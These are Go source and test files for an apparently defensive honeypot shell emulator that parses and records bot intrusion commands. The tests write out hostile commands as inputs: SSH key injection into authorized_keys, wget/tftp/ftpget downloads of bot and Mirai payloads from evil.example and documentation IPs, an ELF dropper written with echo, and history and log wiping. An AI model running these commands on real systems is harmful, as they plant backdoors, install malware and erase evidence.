// quotes, and backslash escapes. Unterminated quotes consume to end of
// line (matching the forgiving behavior of real shells fed by bots).
func lex(line string) []token {
	var toks []token
	var cur strings.Builder
	hasWord := false
	flush := func() {
		if hasWord {
			toks = append(toks, token{kind: tokWord, text: cur.String()})
			cur.Reset()
			hasWord = false
		}
	}
	i := 0
	for i < len(line) {
		c := line[i]
		switch {
		case c == '\'':
			hasWord = true
			j := i + 1
			for j < len(line) && line[j] != '\'' {
				cur.WriteByte(line[j])
				j++
			}
			i = j + 1
		case c == '"':
			hasWord = true
			j := i + 1
			for j < len(line) && line[j] != '"' {
				// Inside double quotes, backslash only escapes \ " $ `
				// (POSIX); any other sequence (e.g. the \x7f of binary
				// droppers) is preserved for echo -e to interpret.
				if line[j] == '\\' && j+1 < len(line) {
					switch line[j+1] {
					case '\\', '"', '$', '`':
						j++
					}
				}
				cur.WriteByte(line[j])
				j++
			}
			i = j + 1
		case c == '\\' && i+1 < len(line):
			hasWord = true
			cur.WriteByte(line[i+1])
			i += 2
		case c == ' ' || c == '\t':
			flush()
			i++
		case c == ';':
			flush()
			toks = append(toks, token{kind: tokSeq})
			i++
		case c == '|':
			flush()
			if i+1 < len(line) && line[i+1] == '|' {
				toks = append(toks, token{kind: tokOr})
				i += 2
			} else {
				toks = append(toks, token{kind: tokPipe})
				i++
			}
		case c == '&':
			flush()
			if i+1 < len(line) && line[i+1] == '&' {
				toks = append(toks, token{kind: tokAnd})
				i += 2
			} else {
				toks = append(toks, token{kind: tokBackground})
				i++
			}
		case c == '>':
			flush()
			if i+1 < len(line) && line[i+1] == '>' {
				toks = append(toks, token{kind: tokRedirAppend})
				i += 2
			} else {
				toks = append(toks, token{kind: tokRedir})
				i++
			}
		default:
			hasWord = true
			cur.WriteByte(c)
			i++
		}
	}
	flush()
	return toks
}

// Parse splits a command line into simple commands. It never fails hard:
// malformed bot input degrades to best-effort commands, because the
// honeypot's job is to record, not to validate.
func Parse(line string) []Command {
	toks := lex(line)
	var cmds []Command
	var cur Command
	var words []string
	expectRedirPath := false
	redirAppend := false
	finish := func(op Operator) {
		if len(words) == 0 && cur.Redirect == nil {
			return
		}
		if len(words) > 0 {
			cur.Name = words[0]
			cur.Args = append([]string(nil), words[1:]...)
		}
		cur.Op = op
		cmds = append(cmds, cur)
		cur = Command{}
		words = words[:0]
	}
	for _, tk := range toks {
		if expectRedirPath {
			if tk.kind == tokWord {
				cur.Redirect = &Redirect{Path: tk.text, Append: redirAppend}
				expectRedirPath = false
				continue
			}
			expectRedirPath = false
		}
		switch tk.kind {
		case tokWord:
			words = append(words, tk.text)
		case tokSeq, tokBackground:
			finish(OpSeq)
		case tokPipe:
			finish(OpPipe)
		case tokAnd:
			finish(OpAnd)
		case tokOr:
			finish(OpOr)
		case tokRedir, tokRedirAppend:
			expectRedirPath = true
			redirAppend = tk.kind == tokRedirAppend
		}
	}
	finish(OpNone)
	// Attach raw segments by re-splitting the original line on the same
	// separators, for verbatim logging.
	raws := SplitSegments(line)
	for i := range cmds {
		if i < len(raws) {
			cmds[i].Raw = raws[i]
		} else {
			cmds[i].Raw = cmds[i].Name + " " + strings.Join(cmds[i].Args, " ")
		}
	}
	return cmds
}

// SplitSegments splits a raw line at top-level command separators
// (`;`, `|`, `&&`, `||`, `&`) while respecting quotes, returning trimmed
// raw segments. This mirrors the paper's methodology for Table 3: "we
// take the recorded command strings, split them at command separators
// (';' and '|')".
func SplitSegments(line string) []string {
	var segs []string
	var cur strings.Builder
	i := 0
	flush := func() {
		s := strings.TrimSpace(cur.String())
		if s != "" {
			segs = append(segs, s)
		}
		cur.Reset()
	}
	for i < len(line) {
		c := line[i]
		switch c {
		case '\'':
			j := strings.IndexByte(line[i+1:], '\'')
			if j < 0 {
				cur.WriteString(line[i:])
				i = len(line)
			} else {
				cur.WriteString(line[i : i+j+2])
				i += j + 2
			}
		case '"':
			j := strings.IndexByte(line[i+1:], '"')
			if j < 0 {
				cur.WriteString(line[i:])
				i = len(line)
			} else {
				cur.WriteString(line[i : i+j+2])
				i += j + 2
			}
		case ';':
			flush()
			i++
		case '|', '&':
			flush()
			if i+1 < len(line) && line[i+1] == c {
				i += 2
			} else {
				i++
			}
		default:
			cur.WriteByte(c)
			i++
		}
	}
	flush()
	return segs
}

// String reconstructs a canonical form of the command for logs.
func (c Command) String() string {
	parts := append([]string{c.Name}, c.Args...)
	s := strings.Join(parts, " ")
	if c.Redirect != nil {
		op := ">"
		if c.Redirect.Append {
			op = ">>"
		}
		s = fmt.Sprintf("%s %s %s", s, op, c.Redirect.Path)
	}
	return s
}
