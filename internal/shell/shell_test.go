package shell

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"

	"honeyfarm/internal/vfs"
)

// captureRecorder records the observation stream for assertions.
type captureRecorder struct {
	commands []string
	known    []bool
	uris     []string
	files    []vfs.FileEvent
}

func (r *captureRecorder) Command(raw string, known bool) {
	r.commands = append(r.commands, raw)
	r.known = append(r.known, known)
}
func (r *captureRecorder) URI(uri string)        { r.uris = append(r.uris, uri) }
func (r *captureRecorder) File(ev vfs.FileEvent) { r.files = append(r.files, ev) }

func newTestShell(t *testing.T) (*Shell, *bytes.Buffer, *captureRecorder) {
	t.Helper()
	fs := vfs.New(nil)
	var out bytes.Buffer
	rec := &captureRecorder{}
	sh := New(fs, &out, rec)
	return sh, &out, rec
}

func TestEchoAndRedirect(t *testing.T) {
	sh, out, rec := newTestShell(t)
	sh.Run("echo hello world")
	if out.String() != "hello world\n" {
		t.Errorf("echo output = %q", out.String())
	}
	out.Reset()
	// The paper's top command: trojan SSH key injection via echo >> file.
	sh.Run("mkdir -p /root/.ssh; echo ssh-rsa AAAAB3NzaC1yc2E attacker >> /root/.ssh/authorized_keys")
	if len(rec.files) != 1 {
		t.Fatalf("files = %d, want 1", len(rec.files))
	}
	ev := rec.files[0]
	if ev.Path != "/root/.ssh/authorized_keys" || ev.Op != vfs.OpCreate {
		t.Errorf("event = %+v", ev)
	}
	content, _ := sh.FS.ReadFile("/", "/root/.ssh/authorized_keys")
	if !strings.Contains(string(content), "ssh-rsa AAAAB3NzaC1yc2E") {
		t.Errorf("key not written: %q", content)
	}
}

func TestEchoHexEscapesProduceBinary(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Run(`echo -ne "\x7f\x45\x4c\x46" > /tmp/dropper`)
	content, err := sh.FS.ReadFile("/", "/tmp/dropper")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(content, []byte{0x7f, 0x45, 0x4c, 0x46}) {
		t.Errorf("content = %x", content)
	}
	if len(rec.files) != 1 || rec.files[0].Hash != vfs.HashContent(content) {
		t.Error("file event hash mismatch")
	}
}

func TestPipeline(t *testing.T) {
	sh, out, _ := newTestShell(t)
	// Classic bot recon: count CPU cores.
	sh.Run("cat /proc/cpuinfo | grep name | wc -l")
	if got := strings.TrimSpace(out.String()); got != "1" {
		t.Errorf("pipeline output = %q, want 1", got)
	}
}

func TestPipelineAwk(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run(`echo a b c | awk '{print $2}'`)
	if got := strings.TrimSpace(out.String()); got != "b" {
		t.Errorf("awk output = %q, want b", got)
	}
}

func TestAndOrChains(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("cat /missing && echo yes || echo no")
	s := out.String()
	if strings.Contains(s, "yes") || !strings.Contains(s, "no") {
		t.Errorf("chain output = %q", s)
	}
	out.Reset()
	sh.Run("echo first && echo second")
	if !strings.Contains(out.String(), "second") {
		t.Errorf("&& chain broken: %q", out.String())
	}
	out.Reset()
	sh.Run("echo a || echo b")
	if strings.Contains(out.String(), "b") {
		t.Errorf("|| after success ran: %q", out.String())
	}
}

func TestUnknownCommandRecorded(t *testing.T) {
	sh, out, rec := newTestShell(t)
	rc := sh.Run("./mirai.arm7 selfrep")
	if rc != 127 {
		t.Errorf("rc = %d, want 127", rc)
	}
	if !strings.Contains(out.String(), "command not found") {
		t.Errorf("output = %q", out.String())
	}
	if len(rec.commands) != 1 || rec.known[0] {
		t.Errorf("unknown command not recorded as unknown: %+v %v", rec.commands, rec.known)
	}
}

func TestKnownCommandsRecordedKnown(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Run("uname -a; free -m; nproc")
	if len(rec.commands) != 3 {
		t.Fatalf("commands = %v", rec.commands)
	}
	for i, k := range rec.known {
		if !k {
			t.Errorf("command %q recorded unknown", rec.commands[i])
		}
	}
}

func TestCdPwd(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("cd /var/log; pwd")
	if got := strings.TrimSpace(out.String()); got != "/var/log" {
		t.Errorf("pwd = %q", got)
	}
	out.Reset()
	sh.Run("cd /missing/dir")
	if !strings.Contains(out.String(), "No such file") {
		t.Errorf("cd error = %q", out.String())
	}
	if sh.CWD != "/var/log" {
		t.Errorf("failed cd changed CWD to %s", sh.CWD)
	}
	out.Reset()
	sh.Run("cd")
	if sh.CWD != "/root" {
		t.Errorf("bare cd = %s, want /root", sh.CWD)
	}
}

func TestWgetDownload(t *testing.T) {
	sh, out, rec := newTestShell(t)
	payload := []byte("#!/bin/sh\nwhile true; do :; done\n")
	sh.Fetch = func(uri string) ([]byte, error) {
		if uri != "http://evil.example/bot.sh" {
			return nil, fmt.Errorf("unexpected uri %s", uri)
		}
		return payload, nil
	}
	rc := sh.Run("cd /tmp && wget http://evil.example/bot.sh && chmod 777 bot.sh")
	if rc != 0 {
		t.Fatalf("rc = %d, out = %q", rc, out.String())
	}
	if len(rec.uris) != 1 || rec.uris[0] != "http://evil.example/bot.sh" {
		t.Errorf("uris = %v", rec.uris)
	}
	if len(rec.files) != 1 || rec.files[0].Hash != vfs.HashContent(payload) {
		t.Errorf("files = %+v", rec.files)
	}
	n, err := sh.FS.Stat("/", "/tmp/bot.sh")
	if err != nil || n.Mode != 0o777 {
		t.Errorf("bot.sh mode = %o err = %v", n.Mode, err)
	}
}

func TestWgetNoNetwork(t *testing.T) {
	sh, out, rec := newTestShell(t)
	rc := sh.Run("wget http://evil.example/x")
	if rc == 0 {
		t.Error("wget without fetcher should fail")
	}
	if !strings.Contains(out.String(), "can't connect") {
		t.Errorf("output = %q", out.String())
	}
	// URI is still recorded: this is what CMD+URI classification needs.
	if len(rec.uris) != 1 {
		t.Errorf("uris = %v", rec.uris)
	}
}

func TestWgetImplicitScheme(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Fetch = func(string) ([]byte, error) { return []byte("x"), nil }
	sh.Run("wget 198.51.100.1/payload")
	found := false
	for _, u := range rec.uris {
		if u == "http://198.51.100.1/payload" {
			found = true
		}
	}
	_ = found // URI extraction sees schemed args only; download normalizes.
	if !sh.FS.Exists("/", "/root/payload") {
		t.Error("download did not write payload")
	}
}

func TestCurlToStdoutThenRedirect(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Fetch = func(string) ([]byte, error) { return []byte("DATA"), nil }
	sh.Run("curl http://x.test/a > /tmp/a")
	content, err := sh.FS.ReadFile("/", "/tmp/a")
	if err != nil || string(content) != "DATA" {
		t.Errorf("content = %q err = %v", content, err)
	}
	if len(rec.files) != 1 {
		t.Errorf("files = %v", rec.files)
	}
}

func TestTftpDownload(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Fetch = func(uri string) ([]byte, error) { return []byte("MIRAI" + uri), nil }
	rc := sh.Run("tftp -g -r mirai.arm 198.51.100.7")
	if rc != 0 {
		t.Fatalf("rc = %d", rc)
	}
	if len(rec.uris) != 1 || rec.uris[0] != "tftp://198.51.100.7/mirai.arm" {
		t.Errorf("uris = %v", rec.uris)
	}
	if !sh.FS.Exists("/", "/root/mirai.arm") {
		t.Error("tftp did not write file")
	}
}

func TestBusyboxDispatchAndFingerprint(t *testing.T) {
	sh, out, rec := newTestShell(t)
	sh.Run("busybox echo probe")
	if !strings.Contains(out.String(), "probe") {
		t.Errorf("busybox echo = %q", out.String())
	}
	out.Reset()
	rc := sh.Run("/bin/busybox MIRAI")
	if rc != 127 || !strings.Contains(out.String(), "MIRAI: applet not found") {
		t.Errorf("rc = %d out = %q", rc, out.String())
	}
	// busybox itself is a known command even with unknown applets.
	if !rec.known[len(rec.known)-1] {
		t.Error("busybox with unknown applet should be a known command")
	}
}

func TestExit(t *testing.T) {
	sh, _, _ := newTestShell(t)
	sh.Run("exit 3")
	if !sh.Exited() || sh.ExitCode() != 3 {
		t.Errorf("exited=%v code=%d", sh.Exited(), sh.ExitCode())
	}
	// Commands after exit are not executed.
	sh.Run("echo never")
	rec := sh.Rec.(*captureRecorder)
	_ = rec
}

func TestExitStopsChain(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("exit; echo after")
	if strings.Contains(out.String(), "after") {
		t.Error("command after exit ran")
	}
}

func TestShDashC(t *testing.T) {
	sh, out, rec := newTestShell(t)
	sh.Run(`sh -c "uname -s"`)
	if !strings.Contains(out.String(), "Linux") {
		t.Errorf("sh -c output = %q", out.String())
	}
	// Both the outer sh and the inner uname are recorded.
	if len(rec.commands) != 2 {
		t.Errorf("commands = %v", rec.commands)
	}
}

func TestHistory(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("uname")
	sh.Run("history")
	if !strings.Contains(out.String(), "uname") {
		t.Errorf("history = %q", out.String())
	}
}

func TestCpMvTouch(t *testing.T) {
	sh, out, rec := newTestShell(t)
	sh.Run("touch /tmp/a")
	if len(rec.files) != 1 {
		t.Fatalf("touch events = %d", len(rec.files))
	}
	sh.Run("cp /etc/passwd /tmp/pw && mv /tmp/pw /tmp/pw2")
	if !sh.FS.Exists("/", "/tmp/pw2") || sh.FS.Exists("/", "/tmp/pw") {
		t.Error("cp/mv failed")
	}
	out.Reset()
	sh.Run("cp /nonexistent /tmp/x")
	if !strings.Contains(out.String(), "cannot stat") {
		t.Errorf("cp error = %q", out.String())
	}
}

func TestHeadTailGrepWc(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("cat /etc/passwd | head -n 2 | wc -l")
	if got := strings.TrimSpace(out.String()); got != "2" {
		t.Errorf("head|wc = %q", got)
	}
	out.Reset()
	sh.Run("cat /etc/passwd | tail -1")
	if !strings.Contains(out.String(), "sshd") {
		t.Errorf("tail = %q", out.String())
	}
	out.Reset()
	sh.Run("grep -v root /etc/passwd | wc -l")
	if got := strings.TrimSpace(out.String()); got != "5" {
		t.Errorf("grep -v|wc = %q", got)
	}
}

func TestUnameVariants(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("uname")
	if strings.TrimSpace(out.String()) != "Linux" {
		t.Errorf("uname = %q", out.String())
	}
	out.Reset()
	sh.Run("uname -a")
	s := out.String()
	if !strings.Contains(s, "Linux") || !strings.Contains(s, "x86_64") {
		t.Errorf("uname -a = %q", s)
	}
	out.Reset()
	sh.Run("uname -m")
	if strings.TrimSpace(out.String()) != "x86_64" {
		t.Errorf("uname -m = %q", out.String())
	}
}

func TestEnvExportUnset(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("export HISTFILE=/dev/null")
	if sh.Env["HISTFILE"] != "/dev/null" {
		t.Error("export failed")
	}
	sh.Run("unset HISTFILE")
	if _, ok := sh.Env["HISTFILE"]; ok {
		t.Error("unset failed")
	}
	out.Reset()
	sh.Run("env")
	if !strings.Contains(out.String(), "HOME=/root") {
		t.Errorf("env = %q", out.String())
	}
}

func TestDdCreatesFile(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Run("dd if=/dev/zero of=/tmp/fill bs=1024 count=4")
	if len(rec.files) != 1 || rec.files[0].Size != 4096 {
		t.Errorf("dd event = %+v", rec.files)
	}
}

func TestPromptReflectsCwd(t *testing.T) {
	sh, _, _ := newTestShell(t)
	if got := sh.Prompt(); got != "root@svr04:~# " {
		t.Errorf("prompt = %q", got)
	}
	sh.Run("cd /tmp")
	if got := sh.Prompt(); got != "root@svr04:/tmp# " {
		t.Errorf("prompt = %q", got)
	}
}

func TestLsOutput(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Run("ls /")
	if !strings.Contains(out.String(), "etc") || !strings.Contains(out.String(), "tmp") {
		t.Errorf("ls / = %q", out.String())
	}
	out.Reset()
	sh.Run("ls -la /root")
	s := out.String()
	if !strings.Contains(s, ".bashrc") {
		t.Errorf("ls -la should show dotfiles: %q", s)
	}
	if !strings.Contains(s, "rw-") {
		t.Errorf("ls -l should show modes: %q", s)
	}
}

func TestEmptyAndWhitespaceInput(t *testing.T) {
	sh, out, rec := newTestShell(t)
	sh.Run("")
	sh.Run("   \t  ")
	if out.Len() != 0 || len(rec.commands) != 0 {
		t.Error("empty input should be a no-op")
	}
}

func TestFetchError(t *testing.T) {
	sh, out, _ := newTestShell(t)
	sh.Fetch = func(string) ([]byte, error) { return nil, errors.New("refused") }
	rc := sh.Run("wget http://dead.example/x")
	if rc == 0 || !strings.Contains(out.String(), "bad address") {
		t.Errorf("rc=%d out=%q", rc, out.String())
	}
}

func BenchmarkRunIntrusionScript(b *testing.B) {
	fs := vfs.New(nil)
	payload := []byte("BOT")
	for i := 0; i < b.N; i++ {
		sh := New(fs.Clone(), nil, nil)
		sh.Fetch = func(string) ([]byte, error) { return payload, nil }
		sh.Run("cat /proc/cpuinfo | grep name | wc -l")
		sh.Run("cd /tmp; wget http://evil.example/bot.sh; chmod 777 bot.sh; ./bot.sh")
		sh.Run("exit")
	}
	b.ReportAllocs()
}
