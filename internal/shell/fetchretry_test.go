package shell

import (
	"errors"
	"testing"
	"time"
)

func TestRetryFetchSucceedsAfterTransientFaults(t *testing.T) {
	calls := 0
	inner := func(uri string) ([]byte, error) {
		calls++
		if calls < 3 {
			return nil, errors.New("transient")
		}
		return []byte("payload:" + uri), nil
	}
	var waits []time.Duration
	fetch := RetryFetch(inner, RetryFetchOptions{
		Attempts: 4,
		Seed:     7,
		Sleep:    func(d time.Duration) { waits = append(waits, d) },
	})
	b, err := fetch("http://evil/bin.sh")
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != "payload:http://evil/bin.sh" {
		t.Errorf("payload = %q", b)
	}
	if calls != 3 {
		t.Errorf("inner called %d times, want 3", calls)
	}
	if len(waits) != 2 {
		t.Fatalf("slept %d times, want 2", len(waits))
	}
	// Exponential envelope with [d/2, d) jitter.
	if waits[0] < 25*time.Millisecond || waits[0] >= 50*time.Millisecond {
		t.Errorf("first backoff %v outside [25ms, 50ms)", waits[0])
	}
	if waits[1] < 50*time.Millisecond || waits[1] >= 100*time.Millisecond {
		t.Errorf("second backoff %v outside [50ms, 100ms)", waits[1])
	}
}

func TestRetryFetchGivesUp(t *testing.T) {
	wantErr := errors.New("permanent")
	calls := 0
	fetch := RetryFetch(func(string) ([]byte, error) {
		calls++
		return nil, wantErr
	}, RetryFetchOptions{Attempts: 3, Sleep: func(time.Duration) {}})
	if _, err := fetch("http://gone"); !errors.Is(err, wantErr) {
		t.Errorf("err = %v, want %v", err, wantErr)
	}
	if calls != 3 {
		t.Errorf("inner called %d times, want 3", calls)
	}
}

func TestRetryFetchNoRetryOnSuccess(t *testing.T) {
	calls := 0
	fetch := RetryFetch(func(string) ([]byte, error) {
		calls++
		return []byte("ok"), nil
	}, RetryFetchOptions{Sleep: func(time.Duration) { t.Error("slept on success") }})
	if _, err := fetch("x"); err != nil || calls != 1 {
		t.Errorf("calls = %d, err = %v", calls, err)
	}
}

func TestRetryFetchDeterministicBackoff(t *testing.T) {
	opts := RetryFetchOptions{Attempts: 5, Seed: 42, Base: 50 * time.Millisecond, Max: 2 * time.Second}
	a := retryDelay(opts, "http://a", 2)
	if b := retryDelay(opts, "http://a", 2); a != b {
		t.Error("same (seed, uri, attempt) gave different delays")
	}
	if b := retryDelay(opts, "http://b", 2); a == b {
		t.Error("different URIs gave identical jitter (suspicious)")
	}
	opts.Seed = 43
	if b := retryDelay(opts, "http://a", 2); a == b {
		t.Error("different seeds gave identical jitter (suspicious)")
	}
	// Cap respected far past the doubling range.
	opts.Base, opts.Max = 50*time.Millisecond, 200*time.Millisecond
	if d := retryDelay(opts, "http://a", 20); d >= 200*time.Millisecond {
		t.Errorf("capped delay = %v, want < 200ms", d)
	}
}

func TestRetryFetchNilInner(t *testing.T) {
	if RetryFetch(nil, RetryFetchOptions{}) != nil {
		t.Error("nil inner should stay nil (honeypot treats nil Fetch as disabled)")
	}
}
