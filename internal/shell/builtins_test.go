package shell

import (
	"strings"
	"testing"
)

func run(t *testing.T, lines ...string) (string, *Shell, *captureRecorder) {
	t.Helper()
	sh, out, rec := newTestShell(t)
	for _, l := range lines {
		sh.Run(l)
	}
	return out.String(), sh, rec
}

func TestSystemInfoCommands(t *testing.T) {
	cases := []struct {
		line string
		want string
	}{
		{"free", "Mem:"},
		{"free -m", "Swap:"},
		{"w", "load average"},
		{"who", "pts/0"},
		{"id", "uid=0(root)"},
		{"whoami", "root"},
		{"hostname", "svr04"},
		{"ps aux", "PID"},
		{"top", "Tasks:"},
		{"nproc", "1"},
		{"lscpu", "Architecture"},
		{"uptime", "load average"},
		{"df -h", "Filesystem"},
		{"du -sh", "."},
		{"mount", "ext4"},
		{"ifconfig", "eth0"},
		{"ip addr", "eth0"},
		{"netstat -an", "ESTABLISHED"},
		{"ss", "ESTABLISHED"},
		{"crontab -l", "no crontab"},
		{"passwd", "updated successfully"},
	}
	for _, c := range cases {
		out, _, _ := run(t, c.line)
		if !strings.Contains(out, c.want) {
			t.Errorf("%q output %q missing %q", c.line, out, c.want)
		}
	}
}

func TestHostnameSet(t *testing.T) {
	out, sh, _ := run(t, "hostname evil-node", "hostname")
	if sh.Host != "evil-node" || !strings.Contains(out, "evil-node") {
		t.Errorf("hostname set failed: %q", out)
	}
}

func TestWhichCommand(t *testing.T) {
	out, _, _ := run(t, "which wget uname nosuchtool")
	if !strings.Contains(out, "/bin/wget") || !strings.Contains(out, "/bin/uname") {
		t.Errorf("which = %q", out)
	}
	if strings.Contains(out, "nosuchtool") {
		t.Errorf("which should stay silent for unknown tools: %q", out)
	}
}

func TestYesBounded(t *testing.T) {
	out, _, _ := run(t, "yes spam")
	n := strings.Count(out, "spam")
	if n == 0 || n > 1000 {
		t.Errorf("yes produced %d lines", n)
	}
}

func TestMkdirVariants(t *testing.T) {
	out, sh, _ := run(t, "mkdir /tmp/a", "mkdir -p /tmp/b/c/d", "mkdir /tmp/a")
	if !sh.FS.Exists("/", "/tmp/a") || !sh.FS.Exists("/", "/tmp/b/c/d") {
		t.Error("mkdir failed")
	}
	if !strings.Contains(out, "File exists") {
		t.Errorf("duplicate mkdir should report: %q", out)
	}
}

func TestRmVariants(t *testing.T) {
	out, sh, _ := run(t,
		"touch /tmp/f1",
		"rm /tmp/f1",
		"rm /tmp/missing",
		"rm -f /tmp/missing2",
		"rm -rf /var/log",
	)
	if sh.FS.Exists("/", "/tmp/f1") || sh.FS.Exists("/", "/var/log") {
		t.Error("rm did not remove targets")
	}
	if !strings.Contains(out, "cannot remove '/tmp/missing'") {
		t.Errorf("rm missing should report: %q", out)
	}
	if strings.Contains(out, "missing2") {
		t.Errorf("rm -f must be silent: %q", out)
	}
}

func TestCpIntoDirectory(t *testing.T) {
	_, sh, _ := run(t, "cp /etc/hostname /tmp")
	content, err := sh.FS.ReadFile("/", "/tmp/hostname")
	if err != nil || !strings.Contains(string(content), "svr04") {
		t.Errorf("cp into dir: %q err=%v", content, err)
	}
}

func TestMvMissingOperand(t *testing.T) {
	out, _, _ := run(t, "mv /tmp/x")
	if !strings.Contains(out, "missing file operand") {
		t.Errorf("mv = %q", out)
	}
}

func TestChmodMissingFile(t *testing.T) {
	out, _, _ := run(t, "chmod 777 /no/such/file")
	if !strings.Contains(out, "cannot access") {
		t.Errorf("chmod = %q", out)
	}
}

func TestEchoFlagCombos(t *testing.T) {
	out, _, _ := run(t, "echo -n no-newline")
	if out != "no-newline" {
		t.Errorf("echo -n = %q", out)
	}
	out2, _, _ := run(t, `echo -e "tab\there"`)
	if !strings.Contains(out2, "tab\there") {
		t.Errorf("echo -e = %q", out2)
	}
	out3, _, _ := run(t, `echo -ne "oct\101"`)
	if out3 != "octA" {
		t.Errorf("echo octal = %q", out3)
	}
}

func TestGrepFileAndExitCodes(t *testing.T) {
	sh, out, _ := newTestShell(t)
	if rc := sh.Run("grep root /etc/passwd"); rc != 0 {
		t.Errorf("grep hit rc = %d", rc)
	}
	if !strings.Contains(out.String(), "root:x:0:0") {
		t.Errorf("grep output = %q", out.String())
	}
	if rc := sh.Run("grep nosuchstring /etc/passwd"); rc != 1 {
		t.Errorf("grep miss rc = %d", rc)
	}
	if rc := sh.Run("grep pattern /no/file"); rc != 2 {
		t.Errorf("grep missing file rc = %d", rc)
	}
	if rc := sh.Run("grep"); rc != 2 {
		t.Errorf("grep usage rc = %d", rc)
	}
}

func TestWcModes(t *testing.T) {
	out, _, _ := run(t, "echo one two | wc")
	if !strings.Contains(out, "1") || !strings.Contains(out, "2") {
		t.Errorf("wc = %q", out)
	}
}

func TestHeadTailFiles(t *testing.T) {
	out, _, _ := run(t, "head -n 1 /etc/passwd")
	if !strings.HasPrefix(out, "root:") || strings.Count(out, "\n") != 1 {
		t.Errorf("head file = %q", out)
	}
	out2, _, _ := run(t, "head -2 /etc/passwd | wc -l")
	if strings.TrimSpace(out2) != "2" {
		t.Errorf("head -N = %q", out2)
	}
	out3, _, _ := run(t, "tail /no/file")
	if !strings.Contains(out3, "cannot open") {
		t.Errorf("tail missing = %q", out3)
	}
}

func TestDdToDevNull(t *testing.T) {
	_, sh, rec := newTestShell2(t)
	sh.Run("dd if=/dev/zero of=/dev/null bs=512 count=4")
	if len(rec.files) != 0 {
		t.Errorf("dd to /dev/null should not record files: %+v", rec.files)
	}
}

// newTestShell2 mirrors newTestShell but returns the recorder first for
// convenience in this file.
func newTestShell2(t *testing.T) (string, *Shell, *captureRecorder) {
	t.Helper()
	sh, out, rec := newTestShell(t)
	_ = out
	return "", sh, rec
}

func TestBareRedirectCreatesFile(t *testing.T) {
	_, sh, _ := run(t, "> /tmp/empty")
	if !sh.FS.Exists("/", "/tmp/empty") {
		t.Error("bare redirect should create file")
	}
}

func TestRedirectIntoMissingDir(t *testing.T) {
	out, _, _ := run(t, "echo x > /no/such/dir/file")
	if !strings.Contains(out, "No such file") {
		t.Errorf("redirect error = %q", out)
	}
}

func TestScpDownload(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Fetch = func(uri string) ([]byte, error) { return []byte("via-" + uri), nil }
	rc := sh.Run("scp user@203.0.113.9:/srv/payload.bin .")
	if rc != 0 {
		t.Fatalf("scp rc = %d", rc)
	}
	if len(rec.uris) != 1 || !strings.HasPrefix(rec.uris[0], "scp://") {
		t.Errorf("uris = %v", rec.uris)
	}
	if !sh.FS.Exists("/", "/root/payload.bin") {
		t.Error("scp did not write file")
	}
}

func TestFtpgetDownload(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Fetch = func(string) ([]byte, error) { return []byte("ftp-data"), nil }
	rc := sh.Run("ftpget -u anonymous -p guest 203.0.113.9 local.bin remote.bin")
	if rc != 0 {
		t.Fatalf("ftpget rc = %d", rc)
	}
	if !sh.FS.Exists("/", "/root/local.bin") {
		t.Error("ftpget local name not used")
	}
	if len(rec.uris) != 1 || rec.uris[0] != "ftp://203.0.113.9/remote.bin" {
		t.Errorf("uris = %v", rec.uris)
	}
}

func TestCurlRemoteName(t *testing.T) {
	sh, _, _ := newTestShell(t)
	sh.Fetch = func(string) ([]byte, error) { return []byte("x"), nil }
	sh.Run("cd /tmp; curl -O http://x.test/tool.elf")
	if !sh.FS.Exists("/", "/tmp/tool.elf") {
		t.Error("curl -O did not save by remote name")
	}
}

func TestChainWithUnknownThenKnown(t *testing.T) {
	out, _, rec := run(t, "./installer || echo fallback")
	if !strings.Contains(out, "fallback") {
		t.Errorf("|| after unknown command failed: %q", out)
	}
	if len(rec.commands) != 2 || rec.known[0] || !rec.known[1] {
		t.Errorf("recording = %v / %v", rec.commands, rec.known)
	}
}

func TestShDashCWithoutScript(t *testing.T) {
	sh, _, _ := newTestShell(t)
	if rc := sh.Run("sh"); rc != 0 {
		t.Errorf("bare sh rc = %d", rc)
	}
}

func TestEnableSystemShellNoops(t *testing.T) {
	// The Mirai telnet preamble: all must be known no-ops.
	_, _, rec := run(t, "enable", "system", "shell", "linuxshell", "sleep 1", "sync", "kill -9 1", "ulimit -n 65535", "chown root:root /tmp")
	for i, known := range rec.known {
		if !known {
			t.Errorf("command %q should be known", rec.commands[i])
		}
	}
}

func TestBasenameFromURI(t *testing.T) {
	cases := map[string]string{
		"http://x.test/a/b/mal.bin":   "mal.bin",
		"http://x.test/":              "index.html",
		"http://x.test":               "index.html",
		"http://x.test/dl?file=x.sh":  "dl",
		"tftp://198.51.100.7/bot.arm": "bot.arm",
	}
	for uri, want := range cases {
		if got := basenameFromURI(uri); got != want {
			t.Errorf("basenameFromURI(%q) = %q, want %q", uri, got, want)
		}
	}
}

func TestModeString(t *testing.T) {
	if got := modeString(0o755); got != "rwxr-xr-x" {
		t.Errorf("modeString(755) = %q", got)
	}
	if got := modeString(0o600); got != "rw-------" {
		t.Errorf("modeString(600) = %q", got)
	}
}

func TestExpandEscapes(t *testing.T) {
	cases := map[string]string{
		`a\nb`:     "a\nb",
		`a\tb`:     "a\tb",
		`a\rb`:     "a\rb",
		`a\\b`:     `a\b`,
		`\x41\x42`: "AB",
		`\x4`:      `\x4`, // too short: literal (trailing \x4 kept)
		`\q`:       `\q`,  // unknown escape preserved
		`\101`:     "A",   // octal
	}
	for in, want := range cases {
		if got := expandEscapes(in); got != want {
			t.Errorf("expandEscapes(%q) = %q, want %q", in, got, want)
		}
	}
}
