package shell

import (
	"strings"
	"testing"
	"testing/quick"
)

